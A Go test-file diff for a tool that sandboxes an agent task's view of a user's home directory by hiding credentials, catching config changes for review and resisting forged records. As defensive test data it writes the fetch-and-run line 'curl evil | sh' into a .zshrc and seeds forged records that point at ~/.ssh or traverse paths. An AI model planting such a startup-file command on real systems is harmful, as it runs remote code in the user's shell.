@@ -11,7 +11,7 @@ import (
 	"github.com/google/go-cmp/cmp"
 )
 
-func setup(t *testing.T) (home, layer, kept string) {
+func setup(t *testing.T) (home string, layer Layer, kept string) {
 	t.Helper()
 	dir := t.TempDir()
 	home = filepath.Join(dir, "home")
@@ -27,7 +27,8 @@ func setup(t *testing.T) (home, layer, kept string) {
 			t.Fatal(err)
 		}
 	}
-	layer, kept = filepath.Join(dir, "task", "home"), filepath.Join(dir, "task", "home-kept")
+	layer = Layer{Dir: filepath.Join(dir, "task", "home"), Record: filepath.Join(dir, "task", "home.json")}
+	kept = filepath.Join(dir, "task", "home-kept")
 	if err := Build(layer, home); err != nil {
 		t.Fatal(err)
 	}
@@ -38,14 +39,14 @@ func TestLayerHidesCredentialsAndLinksTheRest(t *testing.T) {
 	t.Parallel()
 	home, layer, _ := setup(t)
 	for _, p := range []string{".ssh", ".bash_history"} {
-		if _, err := os.Lstat(filepath.Join(layer, p)); !errors.Is(err, os.ErrNotExist) {
+		if _, err := os.Lstat(filepath.Join(layer.Dir, p)); !errors.Is(err, os.ErrNotExist) {
 			t.Errorf("%s is in the layer", p)
 		}
 	}
-	if target, err := os.Readlink(filepath.Join(layer, "Documents")); err != nil || target != filepath.Join(home, "Documents") {
+	if target, err := os.Readlink(filepath.Join(layer.Dir, "Documents")); err != nil || target != filepath.Join(home, "Documents") {
 		t.Errorf("Documents = %q, %v; want a link to the person's own", target, err)
 	}
-	if info, err := os.Lstat(filepath.Join(layer, ".config/app/settings.json")); err != nil || !info.Mode().IsRegular() {
+	if info, err := os.Lstat(filepath.Join(layer.Dir, ".config/app/settings.json")); err != nil || !info.Mode().IsRegular() {
 		t.Errorf(".config was not copied: %v", err)
 	}
 }
@@ -56,7 +57,7 @@ func TestGitConfigGlobalIsCaughtForReview(t *testing.T) {
 	t.Parallel()
 	home, layer, kept := setup(t)
 	cmd := exec.Command("git", "config", "--global", "user.name", "Agent")
-	cmd.Env = append(os.Environ(), "HOME="+layer, "XDG_CONFIG_HOME="+filepath.Join(layer, ".config"))
+	cmd.Env = append(os.Environ(), "HOME="+layer.Dir, "XDG_CONFIG_HOME="+filepath.Join(layer.Dir, ".config"))
 	if out, err := cmd.CombinedOutput(); err != nil {
 		t.Fatalf("git config: %v\n%s", err, out)
 	}
@@ -93,7 +94,7 @@ func TestGitConfigGlobalIsCaughtForReview(t *testing.T) {
 func TestApplyRefusesWhenThePersonChangedTheirFile(t *testing.T) {
 	t.Parallel()
 	home, layer, kept := setup(t)
-	if err := os.WriteFile(filepath.Join(layer, ".zshrc"), []byte("curl evil | sh\n"), 0o644); err != nil {
+	if err := os.WriteFile(filepath.Join(layer.Dir, ".zshrc"), []byte("curl evil | sh\n"), 0o644); err != nil {
 		t.Fatal(err)
 	}
 	if err := os.WriteFile(filepath.Join(home, ".zshrc"), []byte("export A=2\n"), 0o644); err != nil {
@@ -110,7 +111,7 @@ func TestApplyRefusesWhenThePersonChangedTheirFile(t *testing.T) {
 func TestNewFileAtTheTopAndDiscard(t *testing.T) {
 	t.Parallel()
 	_, layer, _ := setup(t)
-	if err := os.WriteFile(filepath.Join(layer, ".newtoolrc"), []byte("x"), 0o644); err != nil {
+	if err := os.WriteFile(filepath.Join(layer.Dir, ".newtoolrc"), []byte("x"), 0o644); err != nil {
 		t.Fatal(err)
 	}
 	ch, _ := Changes(layer)
@@ -123,4 +124,88 @@ func TestNewFileAtTheTopAndDiscard(t *testing.T) {
 	if ch, _ := Changes(layer); len(ch) != 0 {
 		t.Fatalf("after discard: %v", ch)
 	}
+}
+
+// A layer made by an older version kept its record inside the layer, where
+// the task could point it at ~/.ssh. Adopt moves it beside the layer and
+// records the person's own home, whatever the old record said.
+func TestAdoptMovesAnOldRecordOutAndTrustsNotItsHome(t *testing.T) {
+	t.Parallel()
+	home, layer, _ := setup(t)
+	b, err := os.ReadFile(layer.Record)
+	if err != nil {
+		t.Fatal(err)
+	}
+	forged := strings.Replace(string(b), `"home":"`+home+`"`, `"home":"`+filepath.Join(home, ".ssh")+`"`, 1)
+	if forged == string(b) {
+		t.Fatalf("the record does not hold the home as expected: %s", b)
+	}
+	if err := os.WriteFile(filepath.Join(layer.Dir, ".kule-home.json"), []byte(forged), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Remove(layer.Record); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := Changes(layer); err == nil {
+		t.Fatal("a layer without its record was read")
+	}
+	if err := Adopt(layer, home); err != nil {
+		t.Fatal(err)
+	}
+	snap, err := readSnapshot(layer)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if snap.Home != home {
+		t.Fatalf("the adopted record names %s, want the person's home %s", snap.Home, home)
+	}
+	if _, err := os.Lstat(filepath.Join(layer.Dir, ".kule-home.json")); !errors.Is(err, os.ErrNotExist) {
+		t.Fatalf("the old record is still in the layer: %v", err)
+	}
+	if ch, err := Changes(layer); err != nil || len(ch) != 0 {
+		t.Fatalf("after adoption: %v, %v; want no changes", ch, err)
+	}
+	// Once adopted, a new .kule-home.json in the layer is only a file.
+	if err := os.WriteFile(filepath.Join(layer.Dir, ".kule-home.json"), []byte(forged), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if err := Adopt(layer, home); err != nil {
+		t.Fatal(err)
+	}
+	if snap, _ := readSnapshot(layer); snap.Home != home {
+		t.Fatalf("a second .kule-home.json changed the record: %s", snap.Home)
+	}
+}
+
+// FuzzAdopt: whatever an old layer's .kule-home.json holds (the task could
+// write anything there), the adopted record names the person's home.
+func FuzzAdopt(f *testing.F) {
+	for _, s := range []string{`{"home":"/root/.ssh","files":{".zshrc":"00"}}`, `{"home":1}`, `null`, `{"files":{"../../x":"y"}}`, "\x00"} {
+		f.Add([]byte(s))
+	}
+	f.Fuzz(func(t *testing.T, old []byte) {
+		dir := t.TempDir()
+		l := Layer{Dir: filepath.Join(dir, "home"), Record: filepath.Join(dir, "home.json")}
+		if err := os.Mkdir(l.Dir, 0o700); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(l.Dir, ".kule-home.json"), old, 0o600); err != nil {
+			t.Fatal(err)
+		}
+		if err := Adopt(l, "/home/person"); err != nil {
+			t.Fatal(err)
+		}
+		snap, err := readSnapshot(l)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if snap.Home != "/home/person" {
+			t.Fatalf("adopted record names %q", snap.Home)
+		}
+		for rel := range snap.Files {
+			if !localPath(rel) {
+				t.Fatalf("adopted record keeps %q, which leaves the home", rel)
+			}
+		}
+	})
 }
